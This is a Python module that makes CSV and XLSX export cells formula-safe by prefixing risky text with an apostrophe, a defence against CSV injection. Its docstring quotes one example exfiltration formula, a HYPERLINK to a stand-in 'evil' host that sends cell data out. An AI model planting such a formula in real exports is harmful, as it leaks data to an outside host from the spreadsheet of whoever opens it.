"""Formula-safe cells for every CSV and XLSX export.

Why: a spreadsheet opens a cell that starts with = + - @ (or a tab / carriage return before one) as a formula,
so a report text like `=HYPERLINK("http://evil/?"&A1)` typed by a citizen would run in an officer's Excel
(CSV/formula injection, OWASP). Such text cells get a leading apostrophe; in XLSX they are written as text
cells (openpyxl treats a string starting with "=" as a formula otherwise). Numbers — negative ones included —
stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class SafeWriter:
    """csv.writer with every cell passed through safe_cell."""

    def __init__(self, f, **kwargs):
        self._w = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._w.writerow(safe_row(row))


def csv_writer(f, **kwargs) -> SafeWriter:
    return SafeWriter(f, **kwargs)


def xlsx_append(ws, row: Iterable[Any]) -> None:
    """ws.append(row) with formula-safe cells (openpyxl worksheet, normal or write-only)."""
    ws.append(safe_row(row))
